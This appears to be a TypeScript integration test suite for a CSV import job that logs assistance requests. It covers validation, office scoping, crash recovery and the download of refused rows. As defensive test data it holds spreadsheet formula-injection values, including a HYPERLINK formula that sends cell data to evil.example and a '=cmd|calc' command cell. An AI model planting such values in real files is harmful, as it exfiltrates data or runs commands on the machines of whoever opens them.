import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { bootApp, type TestApp } from '../../../../../test/support/app.js';
import { ImportsRepository } from './imports.repository.js';
import { ImportRequestsJob } from './jobs/import-requests.job.js';

const START = `mutation($f: String!, $c: String!) { importAssistanceRequests(fileName: $f, csv: $c) { id status } }`;
const STATUS = `query($id: ID!) { requestImport(id: $id) { status progress totalRows importedRows failure errors { line field message } } }`;

describe('importing requests from a spreadsheet (a background job)', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await bootApp();
  });
  afterAll(() => t.close());

  async function run(who: 'secretariat' | 'bangkok', csv: string, fileName = 'requests.csv') {
    const started = await t.as(who)(START, { f: fileName, c: csv });
    expect(started.errors).toBeUndefined();
    // At least 90 s, 100 ms apart: a job on a loaded 2-core machine can take long (a hang still fails).
    for (let i = 0; i < 900; i++) {
      const res = await t.as(who)(STATUS, { id: started.data!.importAssistanceRequests.id });
      const imp = res.data!.requestImport;
      if (imp.status === 'DONE' || imp.status === 'FAILED') return imp;
      await new Promise((r) => setTimeout(r, 100));
    }
    throw new Error('The import did not finish');
  }
  const count = async () =>
    (await t.dataSource.query(`SELECT count(*)::int AS n FROM assistance_request`))[0].n as number;

  it('keeps the good rows and reports each bad one with its line and reason, writing nothing of it', async () => {
    const before = await count();
    const csv = [
      'State,Kind,Topics,Priority area,Received on,Channel,Description,Confidential',
      'Kenya,training,cybercrime,B,2009-02-01,field office,Training of prosecutors on electronic evidence,',
      'Atlantis,training,cybercrime,B,2009-02-01,letter,Somewhere else,',
      'Nepal,training,cybercrime,B,2009-02-30,letter,A day that does not exist,',
      'Nepal,training,,B,2009-02-01,letter,No topic given,',
      'Nepal,magic,cybercrime,B,2009-02-01,letter,No such kind,',
      'Sénégal,legislative assistance,money laundering;confiscation,B,2009-03-01,questionnaire,Drafting of an AML law,yes',
    ].join('\n');
    const imp = await run('secretariat', csv);
    expect(imp).toMatchObject({ status: 'DONE', progress: 100, totalRows: 6, importedRows: 2, failure: null });
    expect(imp.errors.map((e: { line: number; field: string }) => [e.line, e.field])).toEqual([
      [3, 'state'],
      [4, 'received_on'],
      [5, 'topics'],
      [6, 'kind'],
    ]);
    expect(imp.errors[0].message).toMatch(/"Atlantis" is not a State/);
    expect(await count()).toBe(before + 2);
    const senegal = await t.gql(
      `{ assistanceRequests(filter: { stateIso3: ["SEN"] }) { nodes { kind topics confidential channel loggedBy } } }`,
    );
    expect(senegal.data!.assistanceRequests.nodes).toEqual([
      {
        kind: 'LEGISLATIVE_ASSISTANCE',
        topics: ['money-laundering', 'confiscation'],
        confidential: true,
        channel: 'questionnaire',
        loggedBy: 'secretariat@demo.local',
      },
    ]);
  });

  it('applies the same scope as the form: a field office imports only its own States', async () => {
    const csv = [
      'state,kind,topics,priority_area,received_on,channel,description',
      'THA,training,extradition,C,2009-04-01,workshop,Training',
      'KEN,training,extradition,C,2009-04-01,workshop,Training',
    ].join('\n');
    const imp = await run('bangkok', csv);
    expect(imp.importedRows).toBe(1);
    expect(imp.errors).toEqual([{ line: 3, field: 'state', message: expect.stringMatching(/does not cover KEN/) }]);
  });

  it('refuses a file without the columns it needs, saying which, and one that is not CSV', async () => {
    const imp = await run('secretariat', 'state,kind\nKenya,training');
    expect(imp).toMatchObject({ status: 'FAILED', importedRows: 0 });
    expect(imp.failure).toMatch(/missing: topics, priority_area, received_on, channel, description/);
    const xlsx = await t.gql(START, { f: 'requests.pdf', c: 'PK...' });
    expect(xlsx.errors![0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'fileName' });
  });

  it('refuses a row whose text a spreadsheet would run as a formula, with its line, column and reason', async () => {
    const csv = [
      'state,kind,topics,priority_area,received_on,channel,description',
      'Kenya,training,cybercrime,B,2009-02-01,letter,Plain text is fine',
      'Kenya,training,cybercrime,B,2009-02-01,letter,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
      'Kenya,training,cybercrime,B,2009-02-01,letter,@SUM(1+1)',
    ].join('\n');
    const imp = await run('secretariat', csv);
    expect(imp).toMatchObject({ status: 'DONE', totalRows: 3, importedRows: 1 });
    expect(imp.errors).toEqual([
      { line: 3, field: 'description', message: expect.stringMatching(/begins with "=".*formula/) },
      { line: 4, field: 'description', message: expect.stringMatching(/begins with "@".*formula/) },
    ]);
  });

  it('handles every row exactly once when the job crashes and is run again, with true counters', async () => {
    const marker = `crash-${Date.now()}`;
    const lines = Array.from({ length: 25 }, (_, i) =>
      i % 6 === 5
        ? `Atlantis,training,cybercrime,B,2009-02-01,letter,${marker} row ${i + 2}`
        : `Kenya,training,cybercrime,B,2009-02-01,letter,${marker} row ${i + 2}`,
    );
    const csv = ['state,kind,topics,priority_area,received_on,channel,description', ...lines].join('\n');
    const [secretariat]: Array<{ id: string }> = await t.dataSource.query(
      `SELECT id FROM app_user WHERE email = 'secretariat@demo.local'`,
    );
    // Inserted without queueing it: this test runs the job itself, as the worker would.
    const id = await t.app.get(ImportsRepository).insert('crash.csv', csv, secretariat.id);
    const job = t.app.get(ImportRequestsJob);
    // Four lines per transaction: lines 2–5, 6–9 and 10–13 commit; the crash on line 14 takes 14–17 with it.
    job.batchSize = 4;
    const logged = async () =>
      (
        await t.dataSource.query(`SELECT count(*)::int AS n FROM assistance_request WHERE description LIKE $1`, [
          `${marker} %`,
        ])
      )[0].n as number;
    const state = async () =>
      (
        await t.dataSource.query(
          `SELECT i.status, i.imported_rows,
                  (SELECT count(*)::int FROM request_import_row r WHERE r.import_id = i.id AND r.request_id IS NULL) AS errors,
                  (SELECT count(*)::int FROM request_import_row r WHERE r.import_id = i.id) AS lines
             FROM request_import i WHERE i.id = $1`,
          [id],
        )
      )[0];

    // The process "dies" on line 14, after its request was written and before the line committed.
    job.beforeLineCommits = (line) => {
      if (line === 14) throw new Error('kill -9');
    };
    try {
      await expect(job.runNow(id)).rejects.toThrow('kill -9');
    } finally {
      job.beforeLineCommits = undefined;
    }
    // Lines 2 to 13 committed whole (10 requests, 2 refusals); nothing of line 14.
    expect(await logged()).toBe(10);
    expect(await state()).toMatchObject({ status: 'FAILED', imported_rows: 10, errors: 2, lines: 12 });

    await job.runNow(id);
    // Every row once: 25 rows, of which lines 7, 13, 19 and 25 name no State.
    expect(await logged()).toBe(21);
    expect(await state()).toMatchObject({ status: 'DONE', imported_rows: 21, errors: 4, lines: 25 });
    const descriptions: Array<{ description: string }> = await t.dataSource.query(
      `SELECT description FROM assistance_request WHERE description LIKE $1`,
      [`${marker} %`],
    );
    expect(new Set(descriptions.map((d) => d.description)).size).toBe(21);

    // A third run (a retried, already finished job) changes nothing.
    await job.runNow(id);
    job.batchSize = undefined;
    expect(await logged()).toBe(21);
    expect(await state()).toMatchObject({ imported_rows: 21, errors: 4, lines: 25 });
  });

  it('lists every problem of a refused row, and gives the refused rows back as CSV to fix and import again', async () => {
    const csv = [
      'State,Kind,Topics,Priority area,Received on,Channel,Description',
      'Kenya,training,cybercrime,B,2009-02-01,letter,A good row',
      'Atlantis,magic,cybercrime,B,2009-02-30,letter,=cmd|calc',
      "Côte d'Ivoire,training,,B,2009-03-01,letter,Formation des juges",
    ].join('\r\n');
    const started = await t.gql(
      `mutation($f: String!, $c: String!) { importAssistanceRequests(fileName: $f, csv: $c) { id } }`,
      { f: 'mixed.csv', c: csv },
    );
    const id = started.data!.importAssistanceRequests.id;
    interface Refused {
      line: number;
      field: string | null;
      message: string;
      problems: Array<{ field: string | null; message: string }>;
    }
    let imp: { status?: string; importedRows?: number; refusedRowsUrl?: string; errors: Refused[] } = { errors: [] };
    // At least 90 s, 100 ms apart: a job on a loaded 2-core machine can take long (a hang still fails).
    for (let i = 0; i < 900 && imp.status !== 'DONE'; i++) {
      imp = (
        await t.gql(
          `query($id: ID!) { requestImport(id: $id) { status importedRows refusedRowsUrl errors { line field message problems { field message } } } }`,
          { id },
        )
      ).data!.requestImport;
      if (imp.status !== 'DONE') await new Promise((r) => setTimeout(r, 100));
    }
    expect(imp).toMatchObject({ status: 'DONE', importedRows: 1, refusedRowsUrl: `/api/imports/${id}/refused-rows` });
    const [atlantis, ivory] = imp.errors;
    expect(atlantis.line).toBe(3);
    // Every problem, not only the first: the State, the kind, the date and the formula.
    expect(atlantis.problems.map((p) => p.field).sort()).toEqual(['description', 'kind', 'received_on', 'state']);
    expect(atlantis).toMatchObject({ field: atlantis.problems[0].field, message: atlantis.problems[0].message });
    expect(ivory.problems.map((p) => p.field)).toEqual(['topics']);

    const download = (who: 'secretariat' | 'bangkok') =>
      t.login(`${who}@demo.local`).then((token) =>
        request(t.app.getHttpServer())
          .get(imp.refusedRowsUrl!)
          .set('authorization', `Bearer ${token}`)
          .buffer(true)
          .parse((res, done) => {
            const chunks: Buffer[] = [];
            res.on('data', (c: Buffer) => chunks.push(c));
            res.on('end', () => done(null, Buffer.concat(chunks)));
          }),
      );
    const file = await download('secretariat');
    expect(file.status).toBe(200);
    expect(file.headers['content-type']).toMatch(/text\/csv/);
    expect(file.headers['content-disposition']).toContain('mixed-refused.csv');
    const bytes = file.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows: string[][] = parse(bytes, { bom: true });
    // The person's own header and cells, and an errors column.
    expect(rows[0]).toEqual([
      'State',
      'Kind',
      'Topics',
      'Priority area',
      'Received on',
      'Channel',
      'Description',
      'errors',
    ]);
    expect(rows).toHaveLength(3);
    expect(rows[1].slice(0, 6)).toEqual(['Atlantis', 'magic', 'cybercrime', 'B', '2009-02-30', 'letter']);
    // A cell a spreadsheet would run stays neutralised in the file given back.
    expect(rows[1][6]).toBe("'=cmd|calc");
    expect(rows[1][7]).toMatch(/state: "Atlantis" is not a State/);
    expect(rows[1][7]).toMatch(/received_on: /);
    expect(rows[2][0]).toBe("Côte d'Ivoire");
    expect(rows[2][7]).toMatch(/^topics: /);

    // Another office's user gets nothing; nobody signed in, a 401.
    expect((await download('bangkok')).status).toBe(404);
    expect((await request(t.app.getHttpServer()).get(imp.refusedRowsUrl!)).status).toBe(401);

    // Fixed in the spreadsheet (errors column left in), the file imports.
    const fixed = [
      rows[0],
      ['Kenya', 'training', 'cybercrime', 'B', '2009-02-28', 'letter', 'Fixed', rows[1][7]],
      [...rows[2].slice(0, 2), 'extradition', ...rows[2].slice(3)],
    ]
      .map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(','))
      .join('\n');
    const again = await run('secretariat', fixed, 'mixed-refused.csv');
    expect(again).toMatchObject({ status: 'DONE', importedRows: 2, errors: [] });
  });
});
